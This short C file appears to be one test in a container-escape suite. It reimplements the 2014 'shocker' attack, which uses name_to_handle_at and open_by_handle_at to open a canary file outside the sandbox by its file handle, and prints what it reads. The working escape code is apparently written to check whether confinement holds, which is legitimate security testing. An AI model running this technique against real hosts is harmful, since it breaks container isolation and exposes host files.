/*
 * handle of FILE | handle open DIRECTORY HANDLE - "shocker", 2014: files opened
 * by their number in the file system, whatever is mounted where. One volume is
 * enough to read all of the disk that it lies on; open_by_handle_at(2).
 *
 * A handle is little more than an inode number, so it can be guessed; here the
 * test finds that of its canary outside, with "of".
 */
#include "attack.h"

union place {
    struct file_handle handle;
    char room[sizeof(struct file_handle) + MAX_HANDLE_SZ];
};

static int tell(const char *path)
{
    static union place place;
    int mount;
    place.handle.handle_bytes = MAX_HANDLE_SZ;
    if (name_to_handle_at(AT_FDCWD, path, &place.handle, &mount, 0) < 0)
        return !attack_answer("name_to_handle_at", -1);
    printf("%d", place.handle.handle_type);
    for (unsigned int i = 0; i < place.handle.handle_bytes; i++)
        printf(",%d", place.handle.f_handle[i]);
    putchar('\n');
    return 0;
}

int main(int argc, char **argv)
{
    static union place place;
    char text[64] = {0};
    if (argc == 3)
        return tell(argv[2]);
    if (argc != 4)
        return 2;
    char *next = argv[3];
    place.handle.handle_type = (int)strtol(next, &next, 10);
    while (*next == ',' && place.handle.handle_bytes < MAX_HANDLE_SZ)
        place.handle.f_handle[place.handle.handle_bytes++] =
            (unsigned char)strtol(next + 1, &next, 10);
    int dir = open(argv[2], O_RDONLY | O_DIRECTORY);
    int fd = open_by_handle_at(dir, &place.handle, O_RDONLY);
    if (attack_answer("open_by_handle_at", fd) &&
        read(fd, text, sizeof text - 1) > 0)
        printf("read: %s", text);
    return 0;
}
